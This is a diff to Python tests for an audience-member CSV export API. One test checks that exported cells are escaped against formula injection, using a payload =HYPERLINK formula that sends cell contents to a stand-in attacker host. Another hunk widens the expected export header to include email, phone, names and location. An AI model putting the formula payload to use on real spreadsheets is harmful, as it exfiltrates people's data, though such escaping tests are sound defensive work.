@@ -183,7 +183,7 @@ def test_with_the_view_profile_permission_samples_and_exports_show_external_ids(
     audience_evaluate(audience=audience)
     export = api.get(f"/api/v1/audiences/{audience.pk}/members/", {"format": "csv"})
     assert b"".join(export.streaming_content).decode().splitlines()[0] == (
-        "object_id,external_id,profile_id,profile_external_id"
+        "object_id,external_id,email,phone,first_name,last_name,country,city,loyalty_tier"
     )
     assert api.get(f"/api/v1/audiences/{audience.pk}/distribution/", {"field": "email"}).status_code == 200
 
@@ -405,7 +405,7 @@ def test_the_member_export_escapes_formulas(world, viewer):
     export = viewer[0].get(f"/api/v1/audiences/{audience.pk}/members/", {"format": "csv"})
     rows = list(csv.reader(io.StringIO(b"".join(export.streaming_content).decode())))
     assert [row[1] for row in rows[1:]] == ['\'=HYPERLINK("http://evil.example/?"&A1)', "'+351912345678"]
-    assert [unescape_cell(row[3]) for row in rows[1:]] == ['=HYPERLINK("http://evil.example/?"&A1)', "+351912345678"]
+    assert [unescape_cell(row[1]) for row in rows[1:]] == ['=HYPERLINK("http://evil.example/?"&A1)', "+351912345678"]
 
 
 def test_the_admin_csv_download_escapes_text_cells_and_keeps_numbers():
